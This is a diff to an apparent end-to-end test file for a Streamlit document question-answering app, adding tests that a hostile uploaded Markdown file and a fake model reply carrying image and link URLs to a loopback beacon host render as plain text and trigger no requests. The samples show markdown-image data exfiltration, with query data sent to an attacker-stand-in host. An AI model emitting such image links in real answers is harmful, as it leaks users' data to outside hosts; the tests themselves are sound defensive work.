@@ -7,14 +7,18 @@ CI (``CI=true``), where a missing browser is a failure.
 
 from __future__ import annotations
 
+import contextlib
+import http.server
 import os
 import re
 import shutil
 import socket
 import subprocess
 import sys
+import threading
 import time
 import urllib.request
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -81,16 +85,14 @@ def _wait_healthy(url: str, server: subprocess.Popen, log: Path, timeout: float 
     pytest.fail(f"streamlit was not healthy within {timeout:.0f} s:\n{log.read_text()[-3000:]}")
 
 
-@pytest.fixture
-def app_server(tmp_path):
-    """The real app on a free loopback port, with all state under tmp_path/data."""
+@contextlib.contextmanager
+def serve_app(tmp_path: Path, **env: str) -> Iterator[tuple[str, Path, Path]]:
+    """Run the real app on a free loopback port, all state under tmp_path/data.
+
+    ``env`` adds settings (``GROUNDWORK_*``); yields the URL, the data dir and the server log.
+    """
     port = _free_port()
-    env = dict(os.environ)
-    env.update(
-        GROUNDWORK_DATA_DIR=str(tmp_path / "data"),
-        GROUNDWORK_BACKEND="embedded",  # deterministic whatever runs on this machine
-        PYTHONUNBUFFERED="1",
-    )
+    env = dict(os.environ, GROUNDWORK_DATA_DIR=str(tmp_path / "data"), PYTHONUNBUFFERED="1", **env)
     log = tmp_path / "streamlit.log"
     with log.open("w") as out:
         server = subprocess.Popen(
@@ -125,6 +127,13 @@ def app_server(tmp_path):
         except subprocess.TimeoutExpired:
             server.kill()
             server.wait(timeout=5)
+
+
+@pytest.fixture
+def app_server(tmp_path):
+    """The real app with the embedded backend (deterministic whatever runs on this machine)."""
+    with serve_app(tmp_path, GROUNDWORK_BACKEND="embedded") as served:
+        yield served
 
 
 def _idle(page, timeout_ms: int) -> None:
@@ -208,4 +217,159 @@ def test_upload_ask_cite_and_rate(chromium, app_server, tmp_path):
         db.close()
     assert (row["score"], row["question"]) == (1, QUESTION)
     assert PDF_NAME in {p["source"] for p in row["passages"]}
+    assert "Traceback" not in log.read_text()
+
+
+class _Beacon(http.server.BaseHTTPRequestHandler):
+    """Records every request path; answers with an empty 204."""
+
+    paths: list[str]
+
+    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
+        self.paths.append(self.path)
+        self.send_response(204)
+        self.end_headers()
+
+    def log_message(self, *args) -> None:  # keep the test output clean
+        pass
+
+
+@pytest.fixture
+def beacon():
+    """A loopback HTTP server logging every request: the host a hostile image points at."""
+    handler = type("Beacon", (_Beacon,), {"paths": []})
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"127.0.0.1:{server.server_address[1]}", handler.paths
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.fixture
+def ollama_app_server(tmp_path, fake_ollama):
+    """The real app answering through a loopback Ollama whose replies the test writes."""
+    with serve_app(
+        tmp_path, GROUNDWORK_BACKEND="ollama", GROUNDWORK_OLLAMA_HOST=fake_ollama.url
+    ) as served:
+        yield served
+
+
+HOSTILE_NAME = "printer-status.md"
+HOSTILE_QUESTION = "Is the printer on floor three working?"
+
+
+def hostile_document(host: str) -> str:
+    """Markdown whose sentences carry an image and a link to ``host``."""
+    return (
+        f"# Printer status ![icon](http://{host}/beacon.png?from=heading)\n\n"
+        f"The printer on floor three is working again ![status](http://{host}/beacon.png"
+        f"?from=document) and the queue is explained [click](http://{host}/link) in the guide."
+        "\n\nToner is ordered by the facilities team every Monday.\n"
+    )
+
+
+def _ask_about_hostile_document(
+    page, url: str, host: str, tmp_path: Path
+) -> tuple[list[str], list[str]]:
+    """Upload the hostile document, ask about it and open its citation.
+
+    Returns the text of the Markdown elements shown (word joiners removed) and the HTML of any
+    image or link pointing at ``host``.
+    """
+    page.goto(url, timeout=60_000)
+    page.get_by_role("heading", name="Ask your documents").wait_for(timeout=120_000)
+    _idle(page, 120_000)
+    page.get_by_test_id("stSidebarNav").get_by_text("Documents").click()
+    page.get_by_role("heading", name="Documents", exact=True).wait_for()
+    page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files(
+        {
+            "name": HOSTILE_NAME,
+            "mimeType": "text/markdown",
+            "buffer": hostile_document(host).encode(),
+        }
+    )
+    page.get_by_text(HOSTILE_NAME).first.wait_for()
+    page.get_by_role("button", name="Add to library").click()
+    page.get_by_text(re.compile(rf"{re.escape(HOSTILE_NAME)} — added")).wait_for(timeout=120_000)
+
+    page.get_by_test_id("stSidebarNav").get_by_text("Ask").click()
+    page.get_by_role("heading", name="Ask your documents").wait_for()
+    page.get_by_test_id("stChatInputTextArea").fill(HOSTILE_QUESTION)
+    page.keyboard.press("Enter")
+    citation = (
+        page.get_by_test_id("stExpander")
+        .locator("summary")
+        .filter(has_text=re.compile(rf"\[\d+\] {re.escape(HOSTILE_NAME)}"))
+    )
+    citation.first.wait_for(timeout=300_000)
+    _idle(page, 60_000)
+    citation.first.click()
+    page.wait_for_timeout(1_500)  # time for any image to be requested
+    _screenshot(page, tmp_path / "hostile.png")
+    live = page.locator(f'img[src*="{host}"], a[href*="{host}"]')
+    texts = page.get_by_test_id("stMarkdownContainer").evaluate_all(
+        "els => els.map(e => e.innerText.replaceAll('\\u2060', ''))"
+    )
+    return texts, live.evaluate_all("els => els.map(e => e.outerHTML)")
+
+
+def test_a_hostile_documents_image_and_link_stay_text(chromium, app_server, beacon, tmp_path):
+    """A quoted sentence carrying an image and a link shows them as text; nothing is fetched."""
+    from playwright.sync_api import sync_playwright
+
+    url, _, log = app_server
+    host, hits = beacon
+    requested: list[str] = []
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=str(chromium), args=CHROMIUM_ARGS)
+        try:
+            page = browser.new_page(viewport={"width": 1280, "height": 1000})
+            page.set_default_timeout(30_000)
+            page.on("request", lambda request: requested.append(request.url))
+            texts, live = _ask_about_hostile_document(page, url, host, tmp_path)
+        finally:
+            browser.close()
+
+    assert not [r for r in requested if host in r], requested
+    assert hits == []
+    assert live == []  # no image, and no link either: URLs show as text
+    # The quoted answer and the highlighted passage both show the image syntax as text.
+    image = f"![status](http://{host}/beacon.png?from=document)"
+    assert sum(image in t for t in texts) >= 2, texts
+    assert any(f"[click](http://{host}/link)" in t for t in texts), texts
+    assert "Traceback" not in log.read_text()
+
+
+def test_a_model_told_to_leak_writes_text_not_an_image(
+    chromium, fake_ollama, ollama_app_server, beacon, tmp_path
+):
+    """A model writing an exfiltration image (streamed, then verified) shows it as text."""
+    from playwright.sync_api import sync_playwright
+
+    url, _, log = ollama_app_server
+    host, hits = beacon
+    leak = f"![x](http://{host}/beacon.png?q=floor+three+printer)"
+    fake_ollama.reply = lambda messages: (
+        f"The printer on floor three is working again {leak} and the queue is explained [1]."
+    )
+    fake_ollama.token_delay = 0.02  # a visible stream: the draft is shown piece by piece
+    requested: list[str] = []
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=str(chromium), args=CHROMIUM_ARGS)
+        try:
+            page = browser.new_page(viewport={"width": 1280, "height": 1000})
+            page.set_default_timeout(30_000)
+            page.on("request", lambda request: requested.append(request.url))
+            texts, live = _ask_about_hostile_document(page, url, host, tmp_path)
+        finally:
+            browser.close()
+
+    assert fake_ollama.requests_to("/api/chat"), "the answer was written by the model"
+    assert not [r for r in requested if host in r], requested
+    assert hits == []
+    assert live == []
+    assert any(f"http://{host}/beacon.png" in t for t in texts), texts
     assert "Traceback" not in log.read_text()
